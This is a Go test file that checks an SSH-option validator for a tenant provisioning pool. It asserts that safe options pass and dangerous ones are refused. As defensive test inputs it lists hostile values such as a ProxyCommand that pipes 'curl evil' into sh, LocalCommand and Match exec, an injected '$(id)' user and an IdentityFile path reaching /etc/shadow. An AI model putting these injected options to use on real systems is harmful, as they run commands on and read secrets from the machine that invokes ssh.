package pulumiprov_test

import (
	"strings"
	"testing"

	"github.com/axiestudio/tenantpool/infra/platform"
	"github.com/axiestudio/tenantpool/pool/pulumiprov"
)

func TestValidateSSHOpts(t *testing.T) {
	for _, ok := range [][]string{
		nil,
		{"-o", "StrictHostKeyChecking=yes"},
		{"-oStrictHostKeyChecking=accept-new", "-o", "UserKnownHostsFile=/etc/poold/known_hosts"},
		{"-o", "IdentityFile=~/.ssh/id_ed25519", "-o", "IdentitiesOnly=yes", "-o", "Port=2222", "-o", "User=deploy"},
		{"-o", "ConnectTimeout=10", "-o", "ServerAliveInterval=15", "-o", "ServerAliveCountMax=3"},
		{"-o", "ControlMaster=auto", "-o", "ControlPath=/run/poold/ssh-%C", "-o", "ControlPersist=10m"},
		{"-o", "HostKeyAlgorithms=ssh-ed25519,ecdsa-sha2-nistp256", "-o", "port 22"},
	} {
		if err := pulumiprov.ValidateSSHOpts(ok); err != nil {
			t.Errorf("%q: %v, want accepted", ok, err)
		}
	}
	for _, c := range []struct {
		opts []string
		want string // the error names the option
	}{
		{[]string{"-o", "ProxyCommand=sh -c 'curl evil | sh'"}, "ProxyCommand refused: it runs a command"},
		{[]string{"-oProxyCommand=touch /tmp/pwned"}, "ProxyCommand refused"},
		{[]string{"-o", "proxycommand touch /tmp/pwned"}, "proxycommand refused"},
		{[]string{"-o", "LocalCommand=id", "-o", "PermitLocalCommand=yes"}, "LocalCommand refused"},
		{[]string{"-o", "PermitLocalCommand=yes"}, "PermitLocalCommand refused"},
		{[]string{"-o", "ProxyJump=bastion.example.com"}, "ProxyJump refused"},
		{[]string{"-o", "Include=/tmp/evil.conf"}, "Include refused"},
		{[]string{"-o", "Match=exec \"id\""}, "Match refused"},
		{[]string{"-o", "KnownHostsCommand=/bin/id"}, "KnownHostsCommand refused"},
		{[]string{"-o", "PKCS11Provider=/tmp/evil.so"}, "PKCS11Provider refused"},
		{[]string{"-o", "SendEnv=POOL_*"}, "SendEnv refused"},
		{[]string{"-o", "Ciphers=aes128-ctr"}, "Ciphers refused: not among the allowed options"},
		{[]string{"-o", "StrictHostKeyChecking=no"}, `StrictHostKeyChecking="no" refused`},
		{[]string{"-o", "IdentityFile=relative/key"}, "IdentityFile"},
		{[]string{"-o", "IdentityFile=/x/../../etc/shadow"}, "IdentityFile"},
		{[]string{"-o", "Port=99999"}, "Port"},
		{[]string{"-o", "User=$(id)"}, "User"},
		{[]string{"-o"}, `"-o" without a value`},
		{[]string{"-F", "/tmp/evil_config"}, `ssh argument "-F" refused`},
		{[]string{"-i", "/root/.ssh/id"}, `ssh argument "-i" refused`},
		{[]string{"-o", "Port="}, "Port: no value"},
	} {
		err := pulumiprov.ValidateSSHOpts(c.opts)
		if err == nil || !strings.Contains(err.Error(), c.want) {
			t.Errorf("%q: %v, want an error containing %q", c.opts, err, c.want)
		}
	}
}

// sshOpts are validated where the platform stack's outputs are read: a host whose options would
// run a command on the daemon's machine stops placement with an error naming the option, and
// no tenant program runs.
func TestPlatformStackSSHOptsValidated(t *testing.T) {
	ts := newTenants(t)
	dir := t.TempDir()
	backend := "file://" + dir + "/state"
	evil := host("edge1", 2)
	evil.SSHOpts = []string{"-o", "StrictHostKeyChecking=yes", "-o", "ProxyCommand=touch " + dir + "/pwned"}
	makePlatformStack(t, dir+"/platform", backend, "platform.localhost", []platform.Host{evil})
	p, _ := newProvisioner(t, ts, options{dataDir: dir, backend: backend, platform: "organization/tenantpool/dev"})
	a := account(1, "client01")
	ts.server(a)
	_, err := p.Provision(t.Context(), a, testTier())
	if err == nil || !strings.Contains(err.Error(), "host edge1: ssh option ProxyCommand refused") {
		t.Fatalf("got %v, want the ProxyCommand option refused for host edge1", err)
	}
	if ts.runs[a.Slug] != 0 {
		t.Error("the tenant program ran with a refused ssh option")
	}

	// The same through the configured hosts: New refuses them.
	_, err = pulumiprov.New(t.Context(), pulumiprov.Config{
		DataDir: t.TempDir(), SecretKey: make([]byte, 32), Hosts: []platform.Host{evil}, Domain: "localhost", Image: testImage,
	})
	if err == nil || !strings.Contains(err.Error(), "ProxyCommand refused") {
		t.Fatalf("configured host: %v, want ProxyCommand refused", err)
	}
}
